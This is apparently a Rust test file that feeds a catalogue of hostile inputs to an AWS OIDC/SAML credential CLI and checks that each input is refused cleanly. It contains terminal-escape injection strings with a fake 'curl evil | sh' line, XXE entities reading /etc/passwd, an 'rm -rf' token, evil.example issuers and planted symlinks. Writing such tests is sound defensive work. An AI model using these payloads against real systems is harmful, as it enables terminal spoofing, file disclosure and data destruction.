//! The bad-input catalogue (issue "Trust in the field"): hostile and
//! malformed input across config, CLI, discovery, token and ID token,
//! callback, SAML, STS and the AWS files, one row each. Every row states
//! its exit code and a message fragment; every row also checks that no
//! control character (ESC, BEL, CR, bidi override...) reached stderr and
//! that config.yaml and the AWS files are byte-identical afterwards.
//!
//! Network rows put `tests/peers/fault_front.py` in front of the real
//! provider or moto and have it answer one request with the row's canned
//! answer; callback rows make browser.sh send a crafted callback. To add a
//! row, add one line to the area's function below.

use std::collections::BTreeMap;
use std::path::PathBuf;
use std::sync::Mutex;

use base64::Engine as _;
use base64::engine::general_purpose::{STANDARD, URL_SAFE_NO_PAD};
use serde_json::{Value, json};

use crate::support::{FaultFront, Peers, Run, Sandbox, default_config, http_get, role_arn};

/// Escapes that would retitle, clear or bell the terminal, a fake line and
/// a bidi override.
const HOSTILE: &str = "\u{1b}]0;pwned\u{7}\u{1b}[2J\r\nRun: curl evil | sh\u{202e}";

/// How a row sets the scene before the command runs.
enum Setup {
    /// The default config, nothing else.
    Plain,
    /// This config.yaml (`{META}` is the provider's metadata URL, `{ROLE}`
    /// the developer role ARN).
    Config(String),
    /// This `~/.aws/credentials` content.
    Credentials(Vec<u8>),
    /// This `~/.aws/config` content.
    AwsConfig(Vec<u8>),
    /// The discovery document answered by a front: status, content type, body.
    Discovery(u16, &'static str, String),
    /// The `after`+1-th token-endpoint request answered by a front.
    Token {
        after: u32,
        status: u16,
        content_type: &'static str,
        body: String,
    },
    /// The STS call answered by a front.
    Sts(u16, &'static str, String),
    /// The file system arranged by a function (FIFOs, links, modes, sizes).
    Files(fn(&Sandbox)),
    /// browser.sh sends this callback query (`STATE` = the login's state).
    Callback(String),
}

/// One catalogue row.
struct Row {
    area: &'static str,
    setup: Setup,
    args: Vec<String>,
    code: i32,
    fragment: String,
}

fn args(list: &[&str]) -> Vec<String> {
    list.iter().map(|s| s.to_string()).collect()
}

/// `get-cred -p PROVIDER -r developer -j`.
fn get_cred(provider: &str) -> Vec<String> {
    args(&[
        "get-cred",
        "-p",
        provider,
        "-r",
        &role_arn("developer"),
        "-j",
    ])
}

fn row(area: &'static str, setup: Setup, args: Vec<String>, code: i32, fragment: &str) -> Row {
    Row {
        area,
        setup,
        args,
        code,
        fragment: fragment.to_string(),
    }
}

/// An unsigned compact JWS with these claims (the CLI reads claims; STS
/// checks signatures).
fn jwt(claims: &Value) -> String {
    let header = URL_SAFE_NO_PAD.encode(r#"{"alg":"RS256","typ":"JWT"}"#);
    let payload = URL_SAFE_NO_PAD.encode(claims.to_string());
    format!("{header}.{payload}.c2ln")
}

fn now_secs() -> i64 {
    std::time::SystemTime::now()
        .duration_since(std::time::UNIX_EPOCH)
        .map(|d| d.as_secs() as i64)
        .unwrap_or_default()
}

// ---------------------------------------------------------------------------
// Areas
// ---------------------------------------------------------------------------

fn config_rows() -> Vec<Row> {
    let good = "oidc:\n  oidc_provider_metadata_url: {META}\n  client_id: aws-cli\n  aws_federation_type: oidc\n  default_iam_role_arn: {ROLE}\n";
    let with = |extra: &str| format!("{good}{extra}");
    let replace = |from: &str, to: &str| good.replace(from, to);
    let c = |yaml: String, fragment: &str| {
        row("config", Setup::Config(yaml), get_cred("oidc"), 1, fragment)
    };
    vec![
        c(String::new(), "provider \"oidc\""),
        c("\u{0}\u{1}\u{2}binary".into(), "config"),
        c("oidc: [unclosed\n".into(), "not valid YAML"),
        c("- a\n- b\n".into(), "config"),
        c("oidc: 42\n".into(), "oidc"),
        c("oidc:\n\tclient_id: x\n".into(), "not valid YAML"),
        c(replace("  client_id: aws-cli\n", ""), "client_id"),
        c(
            replace(
                "{META}",
                "http://idp.example.com/.well-known/openid-configuration",
            ),
            "https://",
        ),
        c(replace("{META}", "ftp://127.0.0.1/x"), "ftp://127.0.0.1/x"),
        c(replace("{META}", "not a url"), "not a url"),
        c(
            replace("aws_federation_type: oidc", "aws_federation_type: kerberos"),
            "aws_federation_type",
        ),
        c(with("  max_session_duration_seconds: 100\n"), "900"),
        c(with("  max_session_duration_seconds: 99999\n"), "43200"),
        c(
            with("  max_session_duration_seconds: abc\n"),
            "max_session_duration_seconds",
        ),
        c(
            with("  max_session_duration_seconds: -5\n"),
            "max_session_duration_seconds",
        ),
        c(with("  secret_store: vault9\n"), "secret_store"),
        c(with("  client_auth_method: magic\n"), "client_auth_method"),
        c(
            with("  login_timeout_seconds: -1\n"),
            "login_timeout_seconds",
        ),
        c(
            with("  default_iam_role_arn: again\n"),
            "default_iam_role_arn",
        ),
        c(with("  loopback_port: 70000\n"), "loopback_port"),
        c(
            with("  refresh_margin_minutes: lots\n"),
            "refresh_margin_minutes",
        ),
        c(format!("{good}oidc:\n  client_id: twice\n"), "oidc"),
        // The default role is used: no -r.
        row(
            "config",
            Setup::Config(replace("{ROLE}", "arn:aws:iam::123456789012:user/bob")),
            args(&["get-cred", "-p", "oidc", "-j"]),
            1,
            "user/bob",
        ),
        row(
            "config",
            Setup::Config(replace("{ROLE}", "developer")),
            args(&["get-cred", "-p", "oidc", "-j"]),
            1,
            "developer",
        ),
    ]
}

fn cli_rows() -> Vec<Row> {
    let r =
        |a: &[&str], code: i32, fragment: &str| row("cli", Setup::Plain, args(a), code, fragment);
    let dev = role_arn("developer");
    vec![
        r(&["get-cred"], 2, "-p"),
        r(&["get-cred", "-p"], 2, "-p"),
        r(&["get-cred", "-p", "nope", "-j"], 1, "nope"),
        r(&["get-cred", "-p", "a\u{1b}[2Jb", "-j"], 1, "\\x1b[2J"),
        r(
            &[
                "get-cred",
                "-p",
                "oidc",
                "-r",
                "arn:aws:iam::123456789012:user/bob",
                "-j",
            ],
            2,
            "user/bob",
        ),
        r(
            &["get-cred", "-p", "oidc", "-r", "developer", "-j"],
            2,
            "developer",
        ),
        r(
            &[
                "get-cred",
                "-p",
                "oidc",
                "-r",
                "arn:aws:iam::123456789012:role/\u{1b}[2J",
                "-j",
            ],
            2,
            "role",
        ),
        r(
            &[
                "login",
                "--profile",
                "dev",
                "-p",
                "oidc",
                "--region",
                "us east 1",
                "-r",
                &dev,
            ],
            2,
            "region",
        ),
        r(
            &[
                "login",
                "--profile",
                "dev",
                "-p",
                "oidc",
                "--region",
                "\u{1b}[2J",
                "-r",
                &dev,
            ],
            2,
            "region",
        ),
        r(&["get-cred", "-p", "oidc", "-d", "abc"], 2, "abc"),
        r(&["get-cred", "-p", "oidc", "-d", "-5"], 2, "'-5'"),
        r(
            &["get-cred", "-p", "oidc", "-d", "100", "-j"],
            2,
            "900..=43200",
        ),
        r(
            &["get-cred", "-p", "oidc", "-d", "99999", "-j"],
            2,
            "900..=43200",
        ),
        r(
            &["get-cred", "-p", "oidc", "-d", "99999999999999999999"],
            2,
            "-d",
        ),
        r(&["get-cred", "-p", "oidc", "--bogus"], 2, "--bogus"),
        r(&["frobnicate"], 2, "frobnicate"),
        r(&["login", "-p", "oidc"], 2, "--profile"),
        r(
            &["login", "--profile", "dev\u{7}x", "-p", "oidc", "-r", &dev],
            2,
            "dev",
        ),
        r(
            &["login", "--profile", "", "-p", "oidc", "-r", &dev],
            2,
            "profile",
        ),
        r(
            &["login", "--profile", "[dev]", "-p", "oidc", "-r", &dev],
            2,
            "profile",
        ),
        r(&["refresh", "--within", "many"], 2, "many"),
        r(
            &["refresh", "--profile", "ghost\u{1b}]0;x\u{7}"],
            2,
            "ghost",
        ),
        r(
            &["uninstall-profile", "--profile", "nope\r\nfake"],
            2,
            "nope",
        ),
    ]
}

/// The provider's real discovery document, changed by `edit`.
fn discovery_doc(peers: &Peers, edit: impl FnOnce(&mut Value)) -> String {
    let mut doc: Value = serde_json::from_str(&http_get(&peers.metadata_url()))
        .unwrap_or_else(|e| panic!("discovery is not JSON: {e}"));
    edit(&mut doc);
    doc.to_string()
}

fn discovery_rows(peers: &Peers) -> Vec<Row> {
    let d = |setup: Setup, fragment: &str| row("discovery", setup, get_cred("oidc"), 1, fragment);
    let json = |status, body: String| Setup::Discovery(status, "application/json", body);
    let doc = |edit: &dyn Fn(&mut Value)| json(200, discovery_doc(peers, |d| edit(d)));
    vec![
        d(json(404, "{}".into()), "404"),
        d(json(501, "{}".into()), "501"),
        d(
            Setup::Discovery(200, "text/html", "<html>login</html>".into()),
            "not a JSON document",
        ),
        d(json(200, "[1,2,3]".into()), "not a JSON object"),
        d(json(200, "null".into()), "not a JSON object"),
        d(json(200, String::new()), "not a JSON document"),
        d(
            json(200, json!({ "issuer": HOSTILE }).to_string()),
            "it has no authorization_endpoint",
        ),
        d(
            doc(&|d| {
                d.as_object_mut().map(|o| o.remove("issuer"));
            }),
            "it has no issuer",
        ),
        d(
            doc(&|d| {
                d.as_object_mut().map(|o| o.remove("token_endpoint"));
            }),
            "it has no token_endpoint",
        ),
        d(
            doc(&|d| {
                d.as_object_mut()
                    .map(|o| o.remove("authorization_endpoint"));
            }),
            "it has no authorization_endpoint",
        ),
        d(
            doc(&|d| d["token_endpoint"] = json!("http://idp.example.com/token")),
            "http://idp.example.com/token",
        ),
        d(
            doc(&|d| d["authorization_endpoint"] = json!("ftp://127.0.0.1/auth")),
            "ftp://127.0.0.1/auth",
        ),
        d(
            doc(&|d| d["token_endpoint"] = json!(format!("http://127.0.0.1/{HOSTILE}"))),
            "\\x1b",
        ),
        d(
            doc(&|d| d["token_endpoint"] = json!(42)),
            "it has no token_endpoint",
        ),
        d(doc(&|d| d["issuer"] = json!("")), "it has no issuer"),
        d(
            doc(&|d| {
                d["issuer"] = json!(format!(
                    "{}{HOSTILE}",
                    d["issuer"].as_str().unwrap_or_default()
                ))
            }),
            "\\x1b]0;pwned\\x07",
        ),
        d(
            doc(&|d| d["issuer"] = json!("https://evil.example")),
            "https://evil.example",
        ),
        row(
            "discovery",
            json(
                200,
                discovery_doc(peers, |d| {
                    d["device_authorization_endpoint"] = json!("http://evil.example/device")
                }),
            ),
            args(&["get-cred", "-p", "oidc", "--device", "-j"]),
            1,
            "http://evil.example/device",
        ),
    ]
}

/// The code grant's answer (browser login, then this at the token endpoint).
fn token(status: u16, body: String) -> Setup {
    Setup::Token {
        after: 0,
        status,
        content_type: "application/json",
        body,
    }
}

fn token_rows(peers: &Peers) -> Vec<Row> {
    let t = |setup: Setup, fragment: &str| row("token", setup, get_cred("oidc"), 1, fragment);
    let device = |claims: Value, fragment: &str| {
        let body = json!({"access_token": "at", "token_type": "Bearer", "id_token": jwt(&claims)});
        row(
            "id_token",
            token(200, body.to_string()),
            args(&["get-cred", "-p", "oidc", "--device", "-j"]),
            1,
            fragment,
        )
    };
    let iss = peers.issuer().to_string();
    let good = || json!({"iss": iss, "sub": "alice", "aud": "aws-cli", "exp": now_secs() + 600});
    let with = |k: &str, v: Value| {
        let mut c = good();
        c[k] = v;
        c
    };
    let without = |k: &str| {
        let mut c = good();
        c.as_object_mut().map(|o| o.remove(k));
        c
    };
    let id =
        |t: &str| json!({"access_token": "at", "token_type": "Bearer", "id_token": t}).to_string();
    vec![
        t(token(200, "not json".into()), "not JSON"),
        t(token(200, "{}".into()), "no access_token"),
        t(token(200, "[]".into()), "no access_token"),
        t(
            token(200, json!({"access_token": ""}).to_string()),
            "no access_token",
        ),
        t(
            token(200, json!({"access_token": "at"}).to_string()),
            "no id_token",
        ),
        t(token(200, id("SECRETTOKEN")), "not a JWT"),
        t(token(200, id("a.b.c.d.e")), "encrypted"),
        t(token(200, id("a.!!!.c")), "base64url"),
        t(
            token(200, id(&format!("a.{}.c", URL_SAFE_NO_PAD.encode("[1]")))),
            "JSON object",
        ),
        t(
            token(
                200,
                id(&jwt(
                    &json!({"iss": iss, "aud": "aws-cli", "exp": now_secs() + 600, "nonce": "x"}),
                )),
            ),
            "nonce",
        ),
        t(
            token(
                400,
                json!({"error": "invalid_grant", "error_description": HOSTILE}).to_string(),
            ),
            "invalid_grant: \\x1b]0;pwned",
        ),
        t(token(400, String::new()), "400"),
        t(
            token(401, json!({"error": "invalid_client"}).to_string()),
            "invalid_client",
        ),
        t(token(500, format!("<html>{HOSTILE}</html>")), "500"),
        t(
            token(400, json!({"error": HOSTILE}).to_string()),
            "\\x1b]0;pwned\\x07",
        ),
        t(
            Setup::Token {
                after: 0,
                status: 302,
                content_type: "text/plain",
                body: String::new(),
            },
            "302",
        ),
        device(without("exp"), "exp"),
        device(with("exp", json!(1)), "expired"),
        device(with("exp", json!("soon")), "exp"),
        device(with("aud", json!("someone-else")), "audience"),
        device(with("aud", json!([])), "audience"),
        device(
            with("iss", json!("https://other.example")),
            "https://other.example",
        ),
        device(with("iss", json!(HOSTILE)), "\\x1b]0;pwned\\x07"),
        device(without("iss"), "issuer"),
    ]
}

fn callback_rows(peers: &Peers) -> Vec<Row> {
    let cb = |query: &str, fragment: &str| {
        row(
            "callback",
            Setup::Callback(query.to_string()),
            get_cred("quick"),
            1,
            fragment,
        )
    };
    let enc = |s: &str| form_urlencoded::byte_serialize(s.as_bytes()).collect::<String>();
    let hostile = enc(HOSTILE);
    let iss = format!("iss={}", enc(peers.issuer()));
    vec![
        cb(
            &format!("state=STATE&{iss}&error=access_denied"),
            "refused the login: access_denied",
        ),
        cb(
            &format!("state=STATE&{iss}&error=access_denied&error_description={hostile}"),
            "\\x1b]0;pwned\\x07",
        ),
        cb(
            &format!("state=STATE&{iss}&error={hostile}"),
            "\\x1b]0;pwned\\x07",
        ),
        cb(
            "state=STATE&code=abc&iss=https%3A%2F%2Fevil.example",
            "\"https://evil.example\"",
        ),
        cb(
            &format!("state=STATE&code=abc&iss={hostile}"),
            "\\x1b]0;pwned\\x07",
        ),
        cb("state=STATE&code=abc", "has no iss parameter"),
        cb("state=STATE&error=access_denied", "has no iss parameter"),
        cb(&format!("state=STATE&{iss}"), "no login callback arrived"),
        cb(
            &format!("state=wrong&{iss}&code=abc"),
            "carried a wrong state",
        ),
        cb(&format!("{iss}&code=abc"), "carried a wrong state"),
        cb(
            &format!("state=STATE&state=STATE&{iss}&code=abc"),
            "no login callback arrived",
        ),
        cb(
            &format!("state=STATE&{iss}&code="),
            "no login callback arrived",
        ),
        cb(&format!("state=STATE&{iss}&code=abc"), "invalid_grant"),
    ]
}

/// A token-exchange answer carrying `xml` as the SAML assertion.
fn saml(xml: &str) -> Setup {
    saml_token(&URL_SAFE_NO_PAD.encode(xml))
}

fn saml_token(access_token: &str) -> Setup {
    Setup::Token {
        after: 1,
        status: 200,
        content_type: "application/json",
        body: json!({
            "access_token": access_token,
            "issued_token_type": "urn:ietf:params:oauth:token-type:saml2",
            "token_type": "N_A",
        })
        .to_string(),
    }
}

fn assertion(attributes: &str) -> String {
    format!(
        "<saml:Assertion xmlns:saml=\"urn:oasis:names:tc:SAML:2.0:assertion\" ID=\"_a\" IssueInstant=\"2026-01-01T00:00:00Z\" Version=\"2.0\"><saml:Issuer>x</saml:Issuer><saml:AttributeStatement>{attributes}</saml:AttributeStatement></saml:Assertion>"
    )
}

fn role_attribute(values: &[&str]) -> String {
    let values: String = values
        .iter()
        .map(|v| format!("<saml:AttributeValue>{v}</saml:AttributeValue>"))
        .collect();
    format!(
        "<saml:Attribute Name=\"https://aws.amazon.com/SAML/Attributes/Role\">{values}</saml:Attribute>"
    )
}

fn saml_rows() -> Vec<Row> {
    let s = |setup: Setup, fragment: &str| row("saml", setup, get_cred("saml"), 1, fragment);
    let provider = "arn:aws:iam::123456789012:saml-provider/e2e-idp";
    let dev = role_arn("developer");
    vec![
        s(saml_token(""), "no access_token"),
        s(saml_token("a.b.c"), "JWT"),
        s(saml_token("!!!notbase64!!!"), "base64"),
        s(saml_token(&STANDARD.encode([0xffu8, 0xfe, 0x00])), "UTF-8"),
        s(saml("not xml at all"), "SAML"),
        s(saml("<a><b></a>"), "SAML"),
        s(saml("<html><body>login</body></html>"), "SAML"),
        s(saml(&assertion("")), "Role"),
        s(
            saml(&assertion(&role_attribute(&[
                "arn:aws:iam::123456789012:role/developer",
            ]))),
            "ROLE_ARN,SAML_PROVIDER_ARN",
        ),
        s(
            saml(&assertion(&role_attribute(&[&format!("{dev},{dev}")]))),
            "both ARNs are roles",
        ),
        s(
            saml(&assertion(&role_attribute(&[&format!(
                "{provider},{provider}"
            )]))),
            "neither ARN is a role",
        ),
        s(
            saml(&assertion(&role_attribute(&[&format!(
                "{dev}{HOSTILE},{provider}"
            )]))),
            "\\",
        ),
        s(
            saml(&assertion(&role_attribute(&[&format!(
                "arn:aws:iam::123:role/x,{provider}"
            )]))),
            "ARN",
        ),
        s(
            saml(&format!(
                "<!DOCTYPE x [<!ENTITY e SYSTEM \"file:///etc/passwd\">]>{}",
                assertion(&role_attribute(&["&e;"]))
            )),
            "SAML",
        ),
        s(
            saml(&assertion(&format!(
                "{}<saml:Attribute Name=\"https://aws.amazon.com/SAML/Attributes/SessionDuration\"><saml:AttributeValue>{HOSTILE}</saml:AttributeValue></saml:Attribute>",
                role_attribute(&[&format!("{dev},{provider}")])
            ))),
            "SessionDuration",
        ),
        s(
            saml("<saml:EncryptedAssertion xmlns:saml=\"urn:oasis:names:tc:SAML:2.0:assertion\"/>"),
            "EncryptedAssertion",
        ),
    ]
}

fn sts_error(code: &str, message: &str) -> String {
    format!(
        "<ErrorResponse xmlns=\"https://sts.amazonaws.com/doc/2011-06-15/\"><Error><Type>Sender</Type><Code>{code}</Code><Message>{message}</Message></Error><RequestId>r</RequestId></ErrorResponse>"
    )
}

fn sts_success(key: &str, secret: &str, token: &str, expiration: &str) -> String {
    format!(
        "<AssumeRoleWithWebIdentityResponse xmlns=\"https://sts.amazonaws.com/doc/2011-06-15/\"><AssumeRoleWithWebIdentityResult><Credentials><AccessKeyId>{key}</AccessKeyId><SecretAccessKey>{secret}</SecretAccessKey><SessionToken>{token}</SessionToken><Expiration>{expiration}</Expiration></Credentials></AssumeRoleWithWebIdentityResult></AssumeRoleWithWebIdentityResponse>"
    )
}

fn sts_rows() -> Vec<Row> {
    let s = |status: u16, body: String, fragment: &str| {
        row(
            "sts",
            Setup::Sts(status, "text/xml", body),
            get_cred("oidc"),
            1,
            fragment,
        )
    };
    let exp = "2099-01-01T00:00:00Z";
    vec![
        s(200, "not xml".into(), "not"),
        s(200, String::new(), "not"),
        s(
            200,
            "<AssumeRoleWithWebIdentityResponse/>".into(),
            "AssumeRoleWithWebIdentityResult",
        ),
        s(
            200,
            sts_success("akia lower", "s", "t", exp),
            "AccessKeyId with unexpected characters",
        ),
        s(
            200,
            sts_success("ASIAX", "se\u{1b}cret", "t", exp),
            "SecretAccessKey with unexpected characters",
        ),
        s(
            200,
            sts_success("ASIAX", "secret", "to'ken;rm -rf", exp),
            "SessionToken with unexpected characters",
        ),
        s(
            200,
            sts_success("", "secret", "token", exp),
            "no AccessKeyId",
        ),
        s(
            200,
            sts_success("ASIAX", "secret", "token", "tomorrow"),
            "Expiration",
        ),
        s(
            200,
            sts_success("ASIAX", "secret", "token", &format!("2099{HOSTILE}")),
            "Expiration",
        ),
        s(
            403,
            sts_error("AccessDenied", HOSTILE),
            "\\x1b]0;pwned\\x07",
        ),
        s(
            400,
            sts_error(&format!("Evil{HOSTILE}"), "m"),
            "Evil\\x1b]0;pwned\\x07",
        ),
        s(
            400,
            sts_error("InvalidIdentityToken", "bad"),
            "InvalidIdentityToken",
        ),
        s(
            400,
            sts_error("ExpiredTokenException", "old"),
            "ExpiredTokenException",
        ),
        s(
            400,
            sts_error("ValidationError", "1 validation error"),
            "ValidationError",
        ),
        s(
            400,
            "<ErrorResponse><Error><Message>no code</Message></Error></ErrorResponse>".into(),
            "400",
        ),
        s(404, format!("<html>{HOSTILE}</html>"), "404"),
        s(
            400,
            format!(
                "<!DOCTYPE x [<!ENTITY e SYSTEM \"file:///etc/passwd\">]>{}",
                sts_error("&e;", "m")
            ),
            "400",
        ),
    ]
}

fn aws_file_rows() -> Vec<Row> {
    let dev = role_arn("developer");
    let login = args(&["login", "--profile", "dev", "-p", "oidc", "-r", &dev]);
    let cred = |content: &[u8], fragment: &str| {
        row(
            "aws_files",
            Setup::Credentials(content.to_vec()),
            login.clone(),
            1,
            fragment,
        )
    };
    let conf = |content: &[u8], command: Vec<String>, fragment: &str| {
        row(
            "aws_files",
            Setup::AwsConfig(content.to_vec()),
            command,
            1,
            fragment,
        )
    };
    let install = args(&["install-profile", "--profile", "dev", "-p", "oidc"]);
    vec![
        cred(b"[dev]\raws_access_key_id = x\r", "credentials"),
        cred(b"[dev\naws_access_key_id = x\n", "credentials"),
        cred(b"\xff\xfe[dev]\n", "credentials"),
        cred(
            b"[dev]\naws_access_key_id = x\n[dev]\naws_access_key_id = y\n",
            "credentials",
        ),
        cred(b"[dev]\naws_access_key_id = AKIAHANDWRITTEN\n", "dev"),
        cred(b"[ dev ]\naws_access_key_id = x\n", "credentials"),
        cred(b"[dev]\naws_access_key_id = \x1b]0;pwned\x07\n", "dev"),
        conf(
            b"[profile dev]\ncredential_process = /usr/bin/other\n",
            install.clone(),
            "dev",
        ),
        conf(b"[profile dev\n", install.clone(), "config"),
        conf(b"\xff\xfe", install.clone(), "config"),
        conf(b"[profile dev]\rregion = x\r", install.clone(), "config"),
        // A hostile profile name is a usage error, and the foreign file
        // stays as it is.
        row(
            "aws_files",
            Setup::AwsConfig(
                b"[profile dev]\ncredential_process = aws-cli-oidc get-cred -p other\n".to_vec(),
            ),
            args(&["uninstall-profile", "--profile", "dev\u{1b}[2J"]),
            2,
            "invalid profile name",
        ),
    ]
}

// ---------------------------------------------------------------------------
// Runner
// ---------------------------------------------------------------------------

fn snapshot(sandbox: &Sandbox) -> Vec<(PathBuf, Option<Vec<u8>>)> {
    [
        sandbox.config_path(),
        sandbox.aws_credentials_path(),
        sandbox.aws_config_path(),
    ]
    .into_iter()
    .map(|p| {
        // Only regular files are read: a FIFO row must not hang the harness.
        let regular = std::fs::metadata(&p).is_ok_and(|m| m.is_file());
        let bytes = regular.then(|| std::fs::read(&p).ok()).flatten();
        (p, bytes)
    })
    .collect()
}

/// Files that are not what they seem: FIFOs, devices, oversized files,
/// links planted where we keep files of our own, and headers botocore reads
/// differently. Each is refused with its name, never a hang or a write.
fn filesystem_rows() -> Vec<Row> {
    fn mkfifo(path: &std::path::Path) {
        let _ = std::fs::remove_file(path);
        let ok = std::process::Command::new("mkfifo")
            .arg(path)
            .status()
            .is_ok_and(|s| s.success());
        assert!(ok, "mkfifo {}", path.display());
    }
    fn link(target: &str, at: &std::path::Path) {
        let _ = std::fs::remove_file(at);
        std::os::unix::fs::symlink(target, at).unwrap_or_else(|e| panic!("symlink: {e}"));
    }
    fn aws_dir(s: &Sandbox) -> PathBuf {
        let dir = s
            .aws_credentials_path()
            .parent()
            .map(PathBuf::from)
            .unwrap_or_default();
        std::fs::create_dir_all(&dir).unwrap_or_else(|e| panic!("mkdir: {e}"));
        dir
    }
    let f = |arrange: fn(&Sandbox), command: Vec<String>, code: i32, fragment: &str| {
        row("filesystem", Setup::Files(arrange), command, code, fragment)
    };
    let login = args(&["login", "--profile", "dev", "-p", "oidc"]);
    let install = args(&["install-profile", "--profile", "dev", "-p", "oidc"]);
    vec![
        f(
            |s| mkfifo(&s.config_path()),
            get_cred("oidc"),
            1,
            "is a FIFO",
        ),
        f(
            |s| link("/dev/zero", &s.config_path()),
            get_cred("oidc"),
            1,
            "is a device",
        ),
        f(
            |s| std::fs::write(s.config_path(), vec![b'#'; 2 * 1024 * 1024]).unwrap_or_default(),
            get_cred("oidc"),
            1,
            "larger than",
        ),
        f(
            |s| {
                aws_dir(s);
                mkfifo(&s.aws_credentials_path());
            },
            login.clone(),
            1,
            "is a FIFO",
        ),
        f(
            |s| {
                aws_dir(s);
                link("/dev/urandom", &s.aws_config_path());
            },
            install.clone(),
            1,
            "is a device",
        ),
        f(
            |s| {
                aws_dir(s);
                let big = vec![b'#'; 17 * 1024 * 1024];
                std::fs::write(s.aws_credentials_path(), big).unwrap_or_default();
            },
            login.clone(),
            1,
            "larger than",
        ),
        f(
            |s| {
                let dir = aws_dir(s);
                link("/tmp/aws-cli-oidc-planted-victim", &dir.join("config.lock"));
            },
            install.clone(),
            1,
            "symbolic link",
        ),
        f(
            |s| {
                let locks = s.config_dir().join("locks");
                std::fs::create_dir_all(&locks).unwrap_or_default();
                link(
                    "/tmp/aws-cli-oidc-planted-victim",
                    &locks.join("refresh.oidc.lock"),
                );
            },
            get_cred("oidc"),
            1,
            "symbolic link",
        ),
        f(
            |s| {
                aws_dir(s);
                let text = "[ dev ]\naws_access_key_id = A\nx_aws_cli_oidc_provider = oidc\n";
                std::fs::write(s.aws_credentials_path(), text).unwrap_or_default();
            },
            login.clone(),
            1,
            "rename the header to [dev]",
        ),
        f(
            |s| {
                let cache = s.config_dir().join("cache");
                std::fs::write(&cache, "not a directory").unwrap_or_default();
            },
            // The login still answers; the notices name the file and why.
            args(&["get-cred", "-p", "oidc", "-s", "-j"]),
            0,
            "Not a directory",
        ),
    ]
}

/// Runs one row; `Err` describes how it missed its expectation.
fn run_row(peers: &Peers, row: &Row) -> Result<(), String> {
    let mut sandbox = Sandbox::with_peers(peers);
    let mut front = None;
    let fill = |yaml: &str| {
        yaml.replace("{META}", &peers.metadata_url())
            .replace("{ROLE}", &role_arn("developer"))
    };
    match &row.setup {
        Setup::Plain => {}
        Setup::Config(yaml) => sandbox.write_config(&fill(yaml)),
        Setup::Credentials(bytes) => std::fs::write(sandbox.aws_credentials_path(), bytes)
            .map_err(|e| format!("cannot write credentials: {e}"))?,
        Setup::AwsConfig(bytes) => std::fs::write(sandbox.aws_config_path(), bytes)
            .map_err(|e| format!("cannot write config: {e}"))?,
        Setup::Discovery(status, content_type, body) => {
            let f = FaultFront::start(peers.issuer());
            f.answer(
                "/.well-known/openid-configuration",
                0,
                *status,
                content_type,
                body,
            );
            let meta = format!("{}/.well-known/openid-configuration", f.url());
            sandbox.write_config(&default_config(peers).replace(&peers.metadata_url(), &meta));
            front = Some(f);
        }
        Setup::Token {
            after,
            status,
            content_type,
            body,
        } => {
            let f = FaultFront::start(peers.issuer());
            f.answer("/token", *after, *status, content_type, body);
            let meta = format!("{}/.well-known/openid-configuration", f.url());
            sandbox.write_config(&default_config(peers).replace(&peers.metadata_url(), &meta));
            front = Some(f);
        }
        Setup::Sts(status, content_type, body) => {
            let f = FaultFront::start(peers.sts_endpoint());
            f.answer("/", 0, *status, content_type, body);
            sandbox = sandbox.env("AWS_ENDPOINT_URL_STS", f.url());
            front = Some(f);
        }
        Setup::Callback(query) => {
            sandbox = sandbox.mode("callback").env("E2E_CALLBACK_QUERY", query);
        }
        Setup::Files(arrange) => arrange(&sandbox),
    }
    let before = snapshot(&sandbox);
    let args: Vec<&str> = row.args.iter().map(String::as_str).collect();
    let run: Run = sandbox.run(&args);
    let mut problems = Vec::new();
    if run.code != Some(row.code) {
        problems.push(format!("exit {:?}, expected {}", run.code, row.code));
    }
    if !run.stderr.contains(&row.fragment) {
        problems.push(format!("stderr lacks {:?}", row.fragment));
    }
    let bad: Vec<char> = run
        .stderr
        .chars()
        .filter(|&c| {
            (c.is_control() && c != '\n')
                || matches!(c, '\u{202a}'..='\u{202e}' | '\u{2066}'..='\u{2069}')
        })
        .collect();
    if !bad.is_empty() {
        problems.push(format!("stderr holds control characters {bad:?}"));
    }
    for ((path, was), (_, now)) in before.iter().zip(snapshot(&sandbox)) {
        if *was != now {
            problems.push(format!("{} changed", path.display()));
        }
    }
    drop(front);
    if problems.is_empty() {
        Ok(())
    } else {
        let tail: String = run.stderr.chars().take(1500).collect();
        Err(format!("{}; stderr:\n{tail}", problems.join("; ")))
    }
}

#[test]
fn bad_input_catalogue() {
    let peers = Peers::shared();
    let mut rows = Vec::new();
    rows.extend(config_rows());
    rows.extend(cli_rows());
    rows.extend(discovery_rows(peers));
    rows.extend(token_rows(peers));
    rows.extend(callback_rows(peers));
    rows.extend(saml_rows());
    rows.extend(sts_rows());
    rows.extend(aws_file_rows());
    rows.extend(filesystem_rows());

    let mut per_area: BTreeMap<&str, usize> = BTreeMap::new();
    for r in &rows {
        *per_area.entry(r.area).or_default() += 1;
    }
    let failures = Mutex::new(Vec::new());
    let next = Mutex::new(0usize);
    std::thread::scope(|scope| {
        for _ in 0..6 {
            scope.spawn(|| {
                loop {
                    let i = {
                        let Ok(mut n) = next.lock() else { return };
                        let i = *n;
                        *n += 1;
                        i
                    };
                    let Some(r) = rows.get(i) else { return };
                    if let Err(e) = run_row(peers, r)
                        && let Ok(mut f) = failures.lock()
                    {
                        f.push(format!("row {i} ({}: {:?}): {e}", r.area, r.args));
                    }
                }
            });
        }
    });
    let failures = failures.into_inner().unwrap_or_default();
    eprintln!("bad-input catalogue: {} rows {per_area:?}", rows.len());
    assert!(rows.len() >= 120, "{} rows: {per_area:?}", rows.len());
    assert!(
        failures.is_empty(),
        "{} of {} rows failed:\n\n{}",
        failures.len(),
        rows.len(),
        failures.join("\n\n")
    );
}
